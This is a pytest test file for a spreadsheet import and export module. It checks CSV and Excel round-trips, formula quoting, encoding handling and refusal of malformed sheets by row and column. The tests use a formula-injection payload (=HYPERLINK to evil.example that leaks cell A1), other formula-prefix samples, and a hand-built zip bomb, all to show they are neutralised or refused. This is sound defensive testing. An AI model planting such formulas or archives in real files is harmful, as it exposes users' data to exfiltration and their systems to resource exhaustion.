"""Sheets in and out: what is written is read as it was, nothing in it runs, and a wrong sheet is refused by row and column."""

import io
import zipfile
from collections.abc import Callable, Iterable, Sequence
from datetime import date, datetime, time, timedelta
from pathlib import Path

import pytest
import xlsxwriter
from hypothesis import example, given, settings
from hypothesis import strategies as st

from central.files.cells import letter, quoted, unquoted
from central.files.errors import SheetError
from central.files.sheets import BYTES_MAX, CELL_LENGTH_MAX, COLUMNS_MAX, ROWS_MAX, read_sheet, sheet_names
from central.files.writing import Cell, write_csv, write_xlsx
from tests.sizes import sized

Rows = Iterable[Sequence[Cell]]
LINK = '=HYPERLINK("http://evil.example/?"&A1,"李小明")'
# The last row of all there can be, in a file of five kilobytes; read as it stands it takes 512 GiB.
FAR_ROW, FAR_COLUMN = 1_048_575, 16_383

texts = st.text(
    st.one_of(st.sampled_from("=+-@＝＋－＠'\t \n,;\"\u3000\u200b0"), st.characters(exclude_categories=["Cs", "Cc", "Cn"])),
    max_size=9,
)
tables = st.lists(st.tuples(st.just("x"), texts, texts), max_size=4)


def in_csv(headers: Sequence[str], rows: Rows) -> bytes:
    return b"".join(write_csv(headers, rows))


def in_excel(headers: Sequence[str], rows: Rows, name: str = "") -> bytes:
    file = io.BytesIO()
    write_xlsx(headers, rows, file, name)
    return file.getvalue()


def workbook(fill: Callable[[xlsxwriter.Workbook], object]) -> bytes:
    """Return a workbook as somebody else wrote it."""
    file = io.BytesIO()
    with xlsxwriter.Workbook(file) as book:
        fill(book)
    return file.getvalue()


def rows_of(data: bytes, name: str = "people.csv", sheet: str | None = None) -> list[tuple[int, list[str]]]:
    with read_sheet(data, name, sheet) as opened:
        return [(row.number, list(row.cells.values())) for row in opened.rows]


def refused(data: bytes, name: str = "people.csv", sheet: str | None = None) -> tuple[str, int | None, str]:
    with pytest.raises(SheetError) as error:
        rows_of(data, name, sheet)
    return error.value.message, error.value.row, error.value.column


@given(texts)
@example("'=1")
@example("''=1")
@example("' =1")
def test_what_looks_like_a_formula_is_quoted_and_comes_back(text: str) -> None:
    shown = quoted(text)
    assert unquoted(shown) == text
    assert unquoted(text) in {text, text[1:]}
    assert shown.strip("\u200b\ufeff \u3000")[:1] not in set("=+-@＝＋－＠\t\r")


@given(tables)
def test_a_table_comes_back_from_csv(table: list[tuple[str, str, str]]) -> None:
    assert rows_of(in_csv(["a", "=b", "'=c"], table)) == [(number, list(row)) for number, row in enumerate(table, start=2)]


@settings(max_examples=sized(quick=5, soak=500))
@given(tables)
@example([("x", LINK, "'" + LINK), ("x", "_x0041_", " \t'\n=1"), ("x", "<b>&amp;", "007")])
def test_a_table_comes_back_from_excel(table: list[tuple[str, str, str]]) -> None:
    data = in_excel(["a", "=b", "'=c"], table)
    assert rows_of(data, "people.xlsx") == [(number, list(row)) for number, row in enumerate(table, start=2)]


@pytest.mark.parametrize(
    "text", [LINK, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "＝1", "　＋1", "－1", "＠1", "\ufeff=1", "\0=1"]
)
def test_a_formula_is_quoted_in_csv(text: str) -> None:
    assert in_csv([text], [[text]]).decode("utf-8-sig").startswith(f'"\'{text.replace(chr(34), chr(34) * 2)}"')


def test_a_file_of_ours_is_for_excel() -> None:
    """The mark of UTF-8, long files in blocks; text in quotes; no formula or link, numbers are numbers, what is typed is text."""
    blocks = list(write_csv(["姓名", "n"], ([f"张{number}", number] for number in range(9_000))))
    assert len(blocks) > 1
    assert blocks[0].startswith('\ufeff"姓名"'.encode())
    assert rows_of(b"".join(blocks))[-1] == (9_001, ["张8999", "8999"])
    assert rows_of(in_csv(["a", "b", "c"], [[None, True, -5]])) == [(2, ["", "true", "-5"])]
    data = in_excel(["a", "b", "c", "d"], [[LINK, True, -5, 10**17], ["http://evil.example", None, 10**14, "007"]], "人员")
    assert sheet_names(data, "a.xlsx") == ("人员",)
    assert rows_of(data, "a.xlsx") == [
        (2, [LINK, "true", "-5", str(10**17)]),
        (3, ["http://evil.example", "", str(10**14), "007"]),
    ]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    xml = parts["xl/worksheets/sheet1.xml"]
    assert "<f>" not in xml
    assert "<hyperlink" not in xml
    assert "xl/worksheets/_rels/sheet1.xml.rels" not in parts
    assert all(wanted in xml for wanted in ('state="frozen"', '<autoFilter ref="A1:D3"', "<cols>"))
    assert 'formatCode="@"' in parts["xl/styles.xml"] or 'numFmtId="49"' in parts["xl/styles.xml"]
    with pytest.raises(SheetError) as long:
        in_excel(["a"], [["x" * 40_000]])
    assert long.value.row == 2


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "utf-16"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_a_csv_file_of_any_office_is_read(encoding: str, delimiter: str) -> None:
    lines = ["", ' 姓名 D"电话"D备注D', '李小明D0138D"一\r\n二;,\t"', "DD", "", '王芳D"a""b"', "陈𠀀DD'tD"]
    data = "\r\n".join(lines).replace("D", delimiter).encode(encoding)
    with read_sheet(data, "人员.CSV") as sheet:
        assert (sheet.headers, sheet.letter("备注")) == (("姓名", "电话", "备注"), "C")
        rows = [(row.number, row.cells) for row in sheet.rows]
    assert rows == [
        (3, {"姓名": "李小明", "电话": "0138", "备注": "一\r\n二;,\t"}),
        (6, {"姓名": "王芳", "电话": 'a"b', "备注": ""}),
        (7, {"姓名": "陈𠀀", "电话": "", "备注": "'t"}),
    ]
    assert sheet_names(data, "人员.CSV") == ("人员",)


def test_a_workbook_is_read_as_a_person_sees_it() -> None:
    """Sheets by name but for hidden ones, numbers without .0, days as ISO; an old XLS file is read the same."""

    def fill(book: xlsxwriter.Workbook) -> None:
        sheet, hidden = book.add_worksheet("人员"), book.add_worksheet("隐藏")
        hidden.hide()
        book.add_worksheet("空")
        sheet.write_row(2, 0, [" 姓名 ", "卡号", "比例", "启用", "日", "刻", "时", "长", "式"])
        sheet.write_row(4, 0, ["007", 13800138000, 0.00001, False])
        for column, (value, shape) in enumerate(
            [
                (date(2026, 1, 2), "yyyy-mm-dd"),
                (datetime(2026, 1, 2, 8, 30, 1), "yyyy-mm-dd hh:mm:ss"),  # noqa: DTZ001
                (time(8, 30), "hh:mm"),
                (timedelta(hours=42), "[h]:mm"),
            ],
            start=4,
        ):
            sheet.write_datetime(4, column, value, book.add_format({"num_format": shape}))
        sheet.write_formula(4, 8, "=1+1", None, 2)

    data = workbook(fill)
    assert sheet_names(data, "a.xlsx") == ("人员", "空")
    with read_sheet(data, "a.xlsx", "人员") as sheet:
        assert (sheet.headers[0], sheet.letter("卡号")) == ("姓名", "B")
    cells = ["007", "13800138000", "0.00001", "false", "2026-01-02", "2026-01-02T08:30:01", "08:30:00", "42:00:00", "2"]
    assert rows_of(data, "a.xlsx") == [(5, cells)]
    assert refused(data, "a.xlsx", "空") == ("the sheet is empty", None, "")
    assert refused(data, "a.xlsx", "\0" * 100_000)[0].startswith("there is no sheet \0")
    assert refused(data, "a.xlsx", "隐藏") == ("there is no sheet 隐藏 in the workbook", None, "")

    old = (Path(__file__).parent / "people.xls").read_bytes()
    assert sheet_names(old, "people.xls") == ("人员", "车辆")
    assert rows_of(old, "people.xls", "车辆") == []
    assert rows_of(old, "people.xls") == [(3, ["李小明", "13800138000", "2026-01-02", "true", ""])]


def test_the_columns_before_the_first_used_one_count() -> None:
    data = workbook(lambda book: book.add_worksheet().write_row(4, 2, ["a", "b"]))
    assert refused(data, "a.xlsx") == ("the column has no header", 5, "A")


FAULTS: list[tuple[bytes, str, str, int | None, str]] = [
    (b"", "a.csv", "the sheet is empty", None, ""),
    (b"\n , ,\n", "a.csv", "the sheet is empty", None, ""),
    (b"a", "a.jpg", "a.jpg is no sheet: send CSV, XLSX or XLS", None, ""),
    (b"a,,b", "a.csv", "the column has no header", 1, "B"),
    (b"\na,b, a \n", "a.csv", "there are two columns a", 2, "C"),
    (b"a,b,\n1,2,\n1,2, ,3", "a.csv", "the column has no header", 3, "D"),
    (b"a,b\n\n1,2\0", "a.csv", "the cell has a control character", 3, "B"),
    (b"a\n" + b"x" * (CELL_LENGTH_MAX + 1), "a.csv", f"the cell has more than {CELL_LENGTH_MAX} characters", 2, "A"),
    (b"," * COLUMNS_MAX + b"a", "a.csv", f"there are more than {COLUMNS_MAX} columns", 1, "GS"),
    (b"a\n" * (ROWS_MAX + 1), "a.csv", f"there are more than {ROWS_MAX} rows", ROWS_MAX + 1, ""),
    (b" " * (BYTES_MAX + 1), "a.csv", f"the file has more than {BYTES_MAX} bytes", None, ""),
    (b'a,b\n1,2\n"1,2\n1,2\n', "a.csv", "the row cannot be read: a quotation mark is missing, or the row is too long", 3, ""),
    (b'a\n"x"y\n', "a.csv", "the row cannot be read: a quotation mark is missing, or the row is too long", 2, ""),
    (b"a\n" + b"," * 5_000_000, "a.csv", "the row cannot be read: a quotation mark is missing, or the row is too long", 2, ""),
    (b"a\n1\n2\xff\xff", "a.csv", "the text is neither UTF-8 nor GB18030: save it as 'CSV UTF-8'", 3, ""),
    (b"\xff\xfea\0\n\0b", "a.csv", "the text is neither UTF-8 nor GB18030: save it as 'CSV UTF-8'", 2, ""),
    (b"PK\x03\x04" + b"x" * 99, "a.xlsx", "the workbook is damaged, or none that Excel writes", None, ""),
    (b"\xd0\xcf\x11\xe0" + b"x" * 999, "a.xls", "the workbook is damaged, or none that Excel writes", None, ""),
]


@pytest.mark.parametrize(("data", "name", "message", "row", "column"), FAULTS, ids=range(len(FAULTS)))
def test_a_wrong_sheet_is_refused_by_row_and_column(data: bytes, name: str, message: str, row: int | None, column: str) -> None:
    assert refused(data, name) == (message, row, column)


def test_a_refusal_names_its_place_in_the_reply_and_may_come_late() -> None:
    """The rows before the fault are there; a sheet left early is left behind whole, its reader included."""
    data = in_excel(["a", "b"], [["1", str(number)] for number in range(3_000)] + [["1", "x" * (CELL_LENGTH_MAX + 1)]])
    with read_sheet(data, "a.xlsx") as sheet:
        assert next(sheet.rows).cells == {"a": "1", "b": "0"}
    with read_sheet(data, "a.xlsx") as sheet, pytest.raises(SheetError) as late:
        for _row in sheet.rows:
            pass
    assert (late.value.status_code, late.value.field, late.value.facts) == (422, "file", {"row": 3_002, "column": "B"})
    assert str(late.value) == f"row 3002, column B: {late.value.message}"
    assert refused(b"a", sheet="other")[0] == "there is no sheet other in the workbook"


def test_excels_numbers_keep_fifteen_digits_and_more_are_refused() -> None:
    data = workbook(lambda book: book.add_worksheet().write_column(0, 0, ["a", 999_999_999_999_999, 440301199001011234]))
    message = "a number of more than 15 digits is not kept by Excel: make the cell a text"
    assert refused(data, "a.xlsx") == (message, 3, "A")


def test_a_formula_in_fault_is_not_an_empty_cell() -> None:
    def fill(book: xlsxwriter.Workbook) -> None:
        good, bad = book.add_worksheet("好"), book.add_worksheet("坏")
        for sheet, shown in ((good, "1"), (bad, "#N/A")):
            sheet.write_row(0, 0, ["a", "b"])
            sheet.write_formula(2, 1, "=VLOOKUP(1,A1:B1,2)", None, shown)

    assert rows_of(workbook(fill), "a.xlsx") == [(3, ["", "1"])]
    assert refused(workbook(fill), "a.xlsx", "坏") == ("the cell shows a fault of its formula, as #N/A", 3, "B")


def packed(parts: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return file.getvalue()


def test_a_bomb_is_refused_before_it_is_opened() -> None:
    """Parts that unpack to more than there is room for, a table with one cell at its far end, an archive of something else."""
    small, large = (1_234_567).to_bytes(4, "little"), (600 << 20).to_bytes(4, "little")
    bomb = packed({"xl/workbook.xml": b"0" * 1_234_567}).replace(small, large)
    assert refused(bomb, "a.xlsx")[0] == "the workbook is too large"

    def corners(book: xlsxwriter.Workbook) -> None:
        sheet = book.add_worksheet()
        sheet.write(0, 0, "a")
        sheet.write(FAR_ROW, FAR_COLUMN, "b")

    assert refused(workbook(corners), "a.xlsx")[0] == "the workbook is too large"
    assert refused(packed({"content.xml": b"<a/>"}), "a.xlsx")[0] == "the workbook is damaged, or none that Excel writes"


def test_columns_are_lettered_as_in_excel() -> None:
    assert [letter(index) for index in (0, 25, 26, 701, 702, 16_383)] == ["A", "Z", "AA", "ZZ", "AAA", "XFD"]
